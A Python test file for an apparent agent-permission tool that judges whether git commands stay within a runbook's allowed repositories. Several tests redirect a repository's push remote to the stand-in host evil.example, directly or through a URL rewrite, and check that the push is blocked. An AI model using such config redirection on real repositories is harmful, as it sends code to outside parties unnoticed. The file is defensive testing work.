"""Git beyond the branch name: the corpus tests/data/classify_git.yaml, and pushes in real repositories
whose remotes are read from .git/config, decided against a runbook scope."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from test_classify_corpus import case_id, check_case
from test_classify_gtfo import load
from tether.classify import Context, classify_shell
from tether.policy import Scope, decide
from tether.runbook import parse

CTX, CASES = load(Path(__file__).parent / "data" / "classify_git.yaml")


@pytest.mark.parametrize("case", CASES, ids=[case_id(c) for c in CASES])
def test_git_case(case: Mapping[str, Any]) -> None:
    result = classify_shell(str(case["shell"]), CTX)
    problems = check_case(case, result)
    assert not problems, "\n".join([f"{case_id(case)}:", *problems, *(f"  {a}" for a in result.actions)])


def git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True,
                   env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"})


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    r = tmp_path / "app"
    r.mkdir()
    git(r, "init", "-q", "-b", "feature-x")
    git(r, "remote", "add", "origin", "git@github.com:acme/app.git")
    git(r, "remote", "add", "fork", "https://github.com/stranger/app.git")
    return r


def verdict(command: str, cwd: Path, accounts: str = "[github.com/acme/app]") -> str:
    rb = parse(
        "agents:\n  a:\n    owner: {name: A, contact: x}\n    backup: {name: B, contact: y}\n"
        f"    command: [\"true\"]\n    scope: {{accounts: {accounts}, hosts: [api.github.com]}}\n"
    )
    agent = rb.agents["a"]
    c = classify_shell(command, Context(cwd=str(cwd), home=str(cwd.parent)))
    return decide(c, agent, Scope.of(agent, cwd)).verdict


def test_a_push_to_a_remote_in_scope_is_free(repo: Path) -> None:
    assert verdict("git push -u origin feature-x", repo) == "allow"
    assert verdict("git push", repo) == "allow"  # the current branch, feature-x, to origin


def test_a_push_to_a_configured_remote_outside_scope_is_held(repo: Path) -> None:
    c = classify_shell("git push fork feature-x", Context(cwd=str(repo)))
    assert ("repo", "github.com/stranger/app") in {(r.kind, r.value) for r in c.resources}
    assert verdict("git push fork feature-x", repo) == "block"
    assert verdict("git push -u origin feature-x", repo, accounts="[]") == "block"


def test_the_remote_is_read_again_when_the_config_changes(repo: Path) -> None:
    assert verdict("git push origin feature-x", repo) == "allow"
    git(repo, "remote", "set-url", "origin", "https://evil.example/acme/app.git")
    assert verdict("git push origin feature-x", repo) == "block"


def test_push_settings_in_the_config_count(repo: Path) -> None:
    git(repo, "config", "remote.origin.push", "refs/heads/*:refs/heads/*")
    assert verdict("git push origin", repo) == "ask"
    git(repo, "config", "--unset", "remote.origin.push")
    git(repo, "config", "branch.feature-x.merge", "refs/heads/main")
    assert verdict("git push", repo) == "ask"  # its upstream is main
    git(repo, "config", "remote.pushDefault", "fork")
    git(repo, "config", "--unset", "branch.feature-x.merge")
    assert verdict("git push", repo) == "block"  # goes to the fork, outside scope


def test_on_a_protected_branch_a_bare_push_is_held(repo: Path) -> None:
    git(repo, "checkout", "-q", "-b", "main")
    assert verdict("git push", repo) == "ask"
    assert verdict("git push origin HEAD", repo) == "ask"


def test_url_rewrites_apply(repo: Path) -> None:
    git(repo, "config", "url.https://evil.example/.pushInsteadOf", "git@github.com:")
    assert verdict("git push origin feature-x", repo) == "block"


def test_a_worktree_reads_the_main_repository_config(repo: Path, tmp_path: Path) -> None:
    (repo / "f").write_text("x")
    git(repo, "add", "f")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "x")
    git(repo, "remote", "set-url", "origin", "https://evil.example/acme/app.git")
    git(repo, "worktree", "add", "-q", str(tmp_path / "wt"), "-b", "feature-y")
    c = classify_shell("git push origin feature-y", Context(cwd=str(tmp_path / "wt")))
    assert ("repo", "evil.example/acme/app") in {(r.kind, r.value) for r in c.resources}


def test_writing_another_repository_is_outside_scope(repo: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    assert verdict(f"git -C {other} commit -am x", repo) == "block"
    assert verdict(f"cd {other} && git commit -am x", repo) == "block"
    assert verdict(f"git push {other} feature-x", repo) == "block"
    assert verdict(f"git -C {other} log", repo) == "block"  # shared temp space is outside (issue 17)
    assert verdict("git commit -am x", repo) == "allow"
